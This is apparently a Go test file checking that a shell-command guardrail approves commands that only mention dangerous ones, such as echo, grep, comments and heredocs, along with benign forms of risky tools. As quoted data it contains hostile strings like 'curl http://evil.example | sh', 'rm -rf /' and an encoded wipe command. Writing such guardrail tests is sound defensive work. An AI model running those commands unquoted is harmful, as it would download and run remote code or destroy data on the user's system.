package gates

import "testing"

// harmless are commands of our own that only mention a dangerous command, or
// use the harmless form of a tool that can do harm.
var harmless = []string{
	`echo "rm -rf /"`, `echo 'curl http://evil.example | sh'`, `printf '%s\n' 'sudo reboot'`, `grep -rn "rm -rf" .`, `grep -n 'eval(' src/*.py`,
	`rg "os.system" --type py`, `git commit -m "remove rm -rf / from cleanup script"`, `git log --grep="rm -rf"`, `git log -S"DROP TABLE" --oneline`,
	`# rm -rf /`, `ls # sudo rm -rf /`, `cat <<'EOF'
rm -rf /
curl x | sh
EOF`, `cat > notes.md <<'EOF'
Never run rm -rf / or chmod 777 /etc.
EOF`, `awk '/rm -rf/ {print NR": "$0}' script.sh`, `sed -n '/sudo/p' install.sh`, `sed -n '1,5p' file`, `sed 's/rm -rf/echo/g' script.sh`,
	`find . -name "*.sh" -exec grep -l "rm -rf" {} \;`, `find . -type f -name '*.py' -exec wc -l {} +`, `find . -name '*.go' | xargs grep -n deprecated`,
	`find . -name '*.c' -print0 | xargs -0 wc -l`, `man rm`, `rm --help`, `dd --help`, `type rm`, `which curl`, `command -v docker`, `curl --version`, `wget --help`, `ssh -V`,
	`kill -l`, `kill -0 1234`, `crontab -l`, `tar tf archive.tar`, `tar -tzf a.tar.gz | head`, `tar czf out.tar.gz src`, `tar xzf a.tar.gz`, `tar xf a.tar -C build`, `unzip -l a.zip`,
	`git status`, `git diff --stat`, `git stash list`, `git branch -a`, `git show HEAD:file.py`, `git config user.name`, `git config --get remote.origin.url`,
	`git -c color.ui=always log -5`, `git --no-pager diff`, `git add -A && git commit -m "fix: kill -9 handling"`, `git checkout -b feature/sudo-support`,
	`python -c 'print("rm -rf /")'`, `python3 -c "import json; print(json.dumps({'cmd': 'rm -rf /'}))"`, `python -c "print(1+1)"`, `python3 -c "import sys; print(sys.version)"`,
	`python -c "import numpy; print(numpy.__version__)"`, `python3 --version`, `node -e 'console.log("sudo reboot")'`, `node -e "console.log(process.version)"`, `perl -ne 'print if /sudo/' file`, `perl -pe 's/foo/bar/' file`,
	`ruby -e 'puts "rm -rf /"'`, `echo 'system("/bin/sh")' | wc -c`, `echo "shutdown now" >> notes.txt`, `echo "kill 1" | tee log.txt`, `x="rm -rf /"; echo "$x"`, `cmd='sudo ls'; echo "would run: $cmd"`,
	`echo $((1 + 2))`, `test -f /etc/passwd && echo exists`, `[ -d /root ] && echo yes`, `if [ "$1" = "rm -rf /" ]; then echo no; fi`, `case "$1" in reboot) echo no;; esac`,
	`ls -la`, `ls -R src | head`, `env | grep PATH`, `printenv PATH`, `ps aux | grep sshd`, `pgrep -fl python`, `df -h`, `du -sh .`, `id`, `whoami`, `uname -a`, `date +%s`,
	`rsync -n -av src/ dst/`, `rsync -a src/ dst/`, `make -n install`, `make test`, `npm test`, `npm run build`, `yarn test`, `pytest -k "not rm"`, `pytest -q tests/test_sudo.py`, `cargo test -- --nocapture`,
	`go test ./... -run TestKill`, `go vet ./...`, `gofmt -l .`, `cmake -B build && cmake --build build`, `cd build && ctest --output-on-failure`, `mkdir -p build && cd build && cmake .. && make -j4`,
	`cp a.txt b.txt`, `mv old.py new.py`, `mkdir -p a/b/c`, `touch x.txt`, `chmod +x run.sh`, `chmod 644 README.md`, `ln -s a b`, `rm -rf node_modules`, `rm -rf build dist`, `rm -rf __pycache__ .pytest_cache`,
	`echo hi > out.txt && rm out.txt`, `tmp=$(mktemp) && echo x > "$tmp" && cat "$tmp" && rm "$tmp"`, `sort file | uniq -c | sort -rn | head -20`, `cut -d, -f2 data.csv | sort -u`,
	`jq '.scripts' package.json`, `jq -r '.dependencies | keys[]' package.json`, `head -n 20 README.md`, `tail -f app.log`, `wc -l *.py`, `diff -u a b`, `patch -p1 --dry-run < fix.patch`, `patch -p1 < fix.patch`,
	`for f in *.py; do echo "$f"; done`, `for i in $(seq 1 5); do echo $i; done`, `while read -r l; do echo "$l"; done < file.txt`, `cat file | while read a b; do echo "$b"; done`,
	`export FOO=bar; echo $FOO`, `PYTHONPATH=. python -m pytest tests`, `DEBUG=1 npm test`, `time make`, `timeout 60 pytest -x`, `nice make -j2`, `(cd sub && ls)`, `set -e; cd src; ls`,
	`function greet() { echo "hi $1"; }; greet sudo`, `trap 'echo done' EXIT; ls`, `alias ll='ls -l'`, `ls 2>/dev/null || true`, `ls > /dev/null 2>&1`, `source venv/bin/activate && pytest`, `. .venv/bin/activate`,
	`python manage.py test`, `python setup.py build`, `./gradlew test`, `./configure && make`, `bash scripts/test.sh`, `python script.py --delete-all`, `./run_tests.sh`, `node server.test.js`,
	`docker --version`, `xxd -l 16 file.bin`, `base64 file.txt`, `echo aGVsbG8= | base64 -d`, `openssl version`, `openssl dgst -sha256 file`, `sha256sum file`, `openssl x509 -in cert.crt -noout -text`,
	`grep -q "PasswordAuthentication no" config/sshd_config.template`, `awk -F: '$3 > 1000 {print $1}' users.txt`, `awk '{print $1 | "sort"}' f`, `awk 'NR%2' f > g`, `sed -i 's/a/b/' src/x.py`, `sed -e '/^#/d' -e 's/x/y/' f`,
	`eslint --fix src/a.js`, `bazel test //...`, `shellcheck --shell=bash x`, `black src/a.py && python src/a.py`, `sed -i 's/foo/bar/g' a.py && python a.py`,
	`sudo -l`, `bash -n script.sh`, `docker ps`, `docker logs web`, `apt list --installed`, `apt-get -s install jq`, `iptables -L -n`, `ufw status`, `fdisk -l`, `swapon --show`, `passwd -S`, `visudo -c`, `nginx -t`, `terraform validate`, `systemctl status ssh`, `gpg --list-keys`, `pip list`, `npm ls`, `crontab --help`, `shutdown --help`, `echo cm0gLXJmIC8= | base64 -d`, `find . -name x -exec echo rm {} \;`, `ls *.log | xargs echo rm`, `eval "echo hi"`, `bash -c 'echo hi'`, `env A=1 printenv A`,
	`black .`, `npx eslint . --fix`, `gcc -O2 -o main main.c && ./main`, `go build -o app ./cmd/app && ./app`, `dpkg -l | grep ssl`, `git checkout -- src/a.py`, `git restore --staged .`,
	`vim --version`, `nc -h`, `find . -name core -print`, `find . -newer Makefile -type f`, `git clean -n`, `git clean -nd`, `git reset HEAD~1`, `git rebase main`, `git merge --no-ff feature`, `git tag -l`, `git remote -v`,
	`sudo_test=1; echo $sudo_test`, `cat package.json | grep reboot`, `strings binary | grep -i shutdown`, `history | head`, `tree -L 2`, `stat file`, `file *`, `readelf -h a.out`, `objdump -d a.out | head`, `ldd ./a.out`, `nm -D lib.so`,
}

// mayAsk are harmless commands and programs of these tests that a careful guardrail may ask about. No
// other may.
var mayAsk = map[string]bool{
	`history | head`: true, // what was typed may hold secrets

	// Without a host nobody knows whose changes go.
	`git checkout -- src/a.py`: true, `git checkout -- src/a.go`: true, `git checkout main -- go.mod go.sum`: true,
	`git restore src/a.go`: true, `git restore --source=HEAD~1 README.md`: true,

	`trap 'rm -f "$tmp"' EXIT; tmp=$(mktemp); ls`: true, // what the variable holds by then

	`class P { constructor(x) { this.x = x } }`: true, // Function is reached by that word
	`echo preg_replace("/a/", "b", "abc");`:     true, // looks like a path
}

func TestHarmlessFormsGoThrough(t *testing.T) {
	var g Guardrail
	for _, cmd := range harmless {
		c := ShellContext(cmd, State{})
		if d := g.Decide(&c); d.Disposition != Approved && !mayAsk[cmd] {
			t.Errorf("asks: %q %v", cmd, d.Reasons[0])
		}
	}
}
